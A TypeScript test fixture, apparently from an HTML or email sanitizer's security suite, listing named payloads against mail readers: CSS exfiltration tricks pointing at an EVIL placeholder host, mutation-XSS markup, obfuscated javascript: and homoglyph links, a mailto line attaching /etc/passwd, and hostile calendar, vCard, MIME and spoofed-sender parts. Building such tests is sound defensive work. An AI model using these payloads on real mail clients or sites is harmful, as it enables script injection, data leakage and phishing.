/** What browsers have learned lately, and what was thought up against cleaners and readers since. */
import { type Attack, attacks, ending, multipart, part } from "./attack.ts";

const image = "<img src=x onerror=RUN>";
const event = (lines: string): string =>
  `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@evil\r\nDTSTAMP:20261125T100000Z\r\nDTSTART:20261126T100000Z\r\nDTEND:20261126T110000Z\r\n${lines}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`;
const invited = (lines: string): string =>
  multipart(
    "alternative",
    part("text/html", `<p>${ending}</p>`),
    part("text/calendar; method=REQUEST; charset=utf-8", event(lines)),
  );
const attached = (type: string, disposition: string, content: string): string =>
  multipart(
    "mixed",
    part("text/html", `<p>${ending}</p>`),
    part(type, content, `Content-Disposition: ${disposition}\r\n`),
  );

export const fresh: readonly Attack[] = [
  ...attacks("new css", {
    "an address in an attribute":
      '<style>p{background:image-set(attr(title type(<url>)))}q{background-image:attr(title type(<image>))}</style><p title="EVIL">x</p><q title="url(EVIL)">x</q>',
    "an address by src()": '<p style="background:src(&quot;EVIL&quot;)">x</p>',
    "an address with modifiers": '<p style="background:url(&quot;EVIL&quot; crossorigin(anonymous))">x</p>',
    "a picture by image()": '<p style="background:image(&quot;EVIL&quot;,red)">x</p>',
    "a set with a type": '<p style=\'background:image-set("EVIL" type("image/png") 1x)\'>x</p>',
    "a condition": '<p style="--x:1;background:if(style(--x:1):url(EVIL);else:none)">x</p>',
    "a function": "<style>@function --x(){result:url(EVIL)}p{background:--x()}</style><p>x</p>",
    "a question of style": "<style>body{--x:1}@container style(--x:1){p{background:url(EVIL)}}</style><p>x</p>",
    "a question of scrolling":
      "<style>div{container-type:scroll-state;overflow:auto;height:9px}@container scroll-state(scrollable:top){p{background:url(EVIL)}}</style><div><p>x</p></div>",
    "a place beside an anchor":
      "<style>b{anchor-name:--x}i{position:fixed;position-area:center;position-try:--y;inset:0;background:red}@position-try --y{inset:0}</style><b>x</b><i>y</i>",
    "nesting three deep":
      "<style>@media all{body{@supports (color:red){p{& b{background:url(EVIL)}}}}}</style><p><b>x</b></p>",
    "what a search has found":
      "<style>::search-text,::target-text,::selection,::highlight(x){background:url(EVIL)}</style><p>x</p>",
    "a palette and a profile":
      "<style>@color-profile --x{src:url(EVIL)}@font-palette-values --y{font-family:z}p{color:color(--x 1 1 1)}</style><p>x</p>",
    "words beside a picture": '<style>p::after{content:url(EVIL) / "x"}</style><p>x</p>',
    "markers that scroll": "<style>p{scroll-marker-group:after}p::scroll-marker{content:url(EVIL)}</style><p>x</p>",
    "letters that are none":
      '<style>@font-face{font-family:x;src:local("x"),url("EVIL") tech(color-COLRv1) format(woff2)}p{font:9px x}</style><p>x</p>',
    "a charset of its own": '<style>@charset "utf-7";@import "EVIL";</style>',
    "an import with a question": '<style>@import "EVIL" supports(selector(:has(a))) screen and (width>1px);</style>',
    "an end within a string": `<style>p{color:red;--x:"</style>${image}"}</style>`,
    "a wish to be seen first":
      "<style>*{interactivity:inert;overlay:auto;z-index:2147483647}p{position:fixed;inset:0}</style><p>x</p>",
  }),
  ...attacks("new elements", {
    "a select that copies what is chosen": `<select><button><selectedcontent></selectedcontent></button><option selected>${image}</option></select>`,
    "a shadow": `<div><template shadowrootmode=open shadowrootclonable shadowrootserializable>${image}<style>:host{position:fixed;inset:0;background:url(EVIL)}</style></template></div>`,
    "a command": "<button class=click command=show-modal commandfor=x>x</button><dialog id=x open>x</dialog>",
    "an interest": "<a class=click interestfor=x href='EVIL'>https://example.test/</a><div id=x popover=hint>x</div>",
    "details with a name":
      '<details name=x open ontoggle=RUN style="position:fixed;inset:0"><summary class=click>x</summary>y</details>',
    "a search and a permission":
      "<search><input type=search autofocus onfocus=RUN></search><permission type=geolocation></permission><geolocation autolocate></geolocation>",
    "rules for what comes next":
      '<script type=speculationrules>{"prefetch":[{"urls":["EVIL"]}]}</script><script type=importmap>{"imports":{"x":"EVIL"}}</script>',
    "a wait and a hint":
      '<link rel=expect href="#x" blocking=render><link rel=compression-dictionary href="EVIL"><meta http-equiv=delegate-ch content="sec-ch-ua EVIL">',
    "a trial and a size":
      '<meta http-equiv=origin-trial content=x><meta name=viewport content="width=9"><meta name=color-scheme content=dark><meta name=theme-color content=red>',
    "a picture in a hurry":
      '<img fetchpriority=high loading=eager decoding=sync sizes=auto srcset="EVIL 1x" src="EVIL" elementtiming=x crossorigin>',
    "a picture that leads":
      '<img usemap="#m" src="EVIL"><map name=m><area class=click shape=default ping="EVIL" href="javascript:RUN"></map>',
    "a place in the text":
      '<a class=click href="EVIL#:~:text=secret">https://example.test/</a><a class=click href="#:~:text=x">x</a>',
    "an element of one's own": `<x-evil is=x-evil onclick=RUN style="position:fixed;inset:0"><annotation-xml is=x>${image}</annotation-xml></x-evil>`,
    "a frame that is fenced":
      '<fencedframe config=x></fencedframe><controlledframe src="EVIL"></controlledframe><webview src="EVIL"></webview>',
    "the model of a body":
      '<model src="EVIL"></model><bgsound src="EVIL"><nextid><spacer><layer src="EVIL"></layer><ilayer src="EVIL"></ilayer>',
  }),
  ...attacks("new mutation", {
    "a comment that ends early": `<!--><img src=x onerror=RUN>--><!-- --!>${image}-->`,
    "an instruction": `<?xml-stylesheet href="EVIL"?><?x ><img src=x onerror=RUN>?>`,
    "CDATA in and out of SVG": `<svg><![CDATA[><image xlink:href="]]>${image}"></svg><![CDATA[x]]>${image}`,
    "an attribute with ends of all": `<a title="--></style></title></textarea></xmp></noscript></template>]]>${image}">x</a>`,
    "xhtml within mathml": `<math><annotation-xml encoding="application/xhtml+xml"><p><style><!--</p></annotation-xml></math><a title="-->${image}">`,
    "a link by animation twice":
      '<svg><a><animate attributeName="xlink:href" values="x;javascript:RUN" dur=1s /><set attributeName=href to="javascript:RUN"/><text class=click y=9>x</text></a></svg>',
    "a maction that chooses":
      '<math><maction actiontype=toggle selection=2><mtext>x</mtext><mtext href="javascript:RUN" class=click>y</mtext></maction><mglyph src="EVIL"/></math>',
    "formatting that is carried on": `<p><b title=1><b title=2><b title=3><table><td><svg><desc></table><style><img title="</style>${image}">`,
    "a nobr in a nobr in a frameset": `<nobr><frameset><noframes><nobr title="</noframes>${image}"></frameset>`,
    "a form by its id":
      "<form id=f></form><input form=f name=nodeType><input form=f name=removeChild><button form=f formaction='javascript:RUN' class=click>x</button>",
  }),
  ...attacks("new links", {
    "a wide full stop": '<a class=click href="https://example.test\u3002evil.test/x">https://example.test</a>',
    "letters of another alphabet": '<a class=click href="https://ex\u0430mple.test/">https://example.test/</a>',
    "a name before the host":
      '<a class=click href="https://example.test&#64;evil.test/">https://example.test/</a><a class=click href="https:example.test@evil.test">x</a>',
    "a scheme with blanks":
      '<a class=click href="\u0001java&#9;script&#10;:RUN">x</a><a class=click href="&#x6A&#x61vascript&colon;RUN">x</a>',
    "a scheme of a program":
      '<a class=click href="ms-word:ofe|u|EVIL">x</a><a class=click href="search-ms:query=x">x</a><a class=click href="blob:https://x/y">x</a><a class=click href="filesystem:x">x</a><a class=click href="view-source:EVIL">x</a>',
    "a letter that writes itself":
      '<a href="mailto:x@evil.test?attach=/etc/passwd&bcc=y@evil.test&body=%0d%0aBcc:z@evil.test">write</a>',
  }),
  ...[
    [
      "tags in every line",
      'SUMMARY:<img src=x onerror=RUN>\r\nLOCATION:<svg onload=RUN>\r\nDESCRIPTION:<script>RUN</script>\r\nORGANIZER;CN="<img src=x onerror=RUN>":mailto:mallory@evil.test\r\nATTENDEE;CN="<b onclick=RUN>":mailto:u1@example.test',
    ],
    [
      "HTML of its own",
      "SUMMARY:x\r\nX-ALT-DESC;FMTTYPE=text/html:<html><body><img src=EVIL onerror=RUN></body></html>\r\nSTYLED-DESCRIPTION;FMTTYPE=text/html:<script>RUN</script>",
    ],
    [
      "addresses that run",
      'SUMMARY:x\r\nURL:javascript:RUN\r\nLOCATION;ALTREP="javascript:RUN":x\r\nCONFERENCE:javascript:RUN\r\nATTACH:javascript:RUN\r\nIMAGE:EVIL',
    ],
    [
      "without end",
      "SUMMARY:\u202Etxt.exe\r\nRRULE:FREQ=SECONDLY;INTERVAL=1;COUNT=99999999\r\nRRULE:FREQ=YEARLY;BYDAY=5MO;BYMONTH=2;BYMONTHDAY=30",
    ],
    ["in a zone of tags", 'SUMMARY:x\r\nDTSTART;TZID="<img src=x onerror=RUN>":20261126T100000'],
  ].map(([name, lines]): Attack => ({ name: `an invitation: ${name}`, mime: invited(lines ?? "") })),
  {
    name: "attached: a contact with tags",
    mime: attached(
      "text/vcard; name=x.vcf",
      "attachment; filename=x.vcf",
      "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:<img src=x onerror=RUN>\r\nURL:javascript:RUN\r\nPHOTO:EVIL\r\nNOTE:<script>RUN</script>\r\nEND:VCARD\r\n",
    ),
  },
  {
    name: "attached: names that say two things",
    mime: attached(
      'application/pdf; name="a.pdf"',
      "attachment; filename=\"a.exe\"; filename*=utf-8''%3Cimg%20src%3Dx%20onerror%3Dtop.hostile%3D%5B1%5D%3E%0D%0A.pdf",
      "MZ",
    ),
  },
  {
    name: "attached: a name that is long and empty",
    mime: attached(
      "application/octet-stream",
      `attachment; filename="${"\u200b".repeat(400)}${"W".repeat(3000)}.txt"`,
      "x",
    ),
  },
  {
    name: "parts: a cid that is a way",
    mime: multipart(
      "related",
      part(
        "text/html",
        `<img src="cid:../../auth/logout"><img src="cid:%2e%2e%2fauth"><img src="cid:javascript:RUN"><img src="CID:https://evil.test/x"><img src="x.png"><p>${ending}</p>`,
        "Content-Location: https://evil.test/\r\nContent-Base: https://evil.test/\r\n",
      ),
      part("image/png", "x", "Content-ID: <javascript:RUN>\r\nContent-Location: x.png\r\n"),
    ),
  },
  {
    name: "a header: a name that is another's, unseen",
    mime: part("text/html", `<p>${ending}</p>`),
    from: '"Bank\u2028<security@example.test>\u00a0\u2003\u3164" <mallory@evil.test>',
  },
  {
    name: "a header: nobody and everybody",
    mime: part("text/html", `<p>${ending}</p>`),
    from: 'a group: "security@example.test" <mallory@evil.test>, <>, @, "" <"\\"><img src=x onerror=top.hostile=[1]>"@evil.test>;',
  },
];
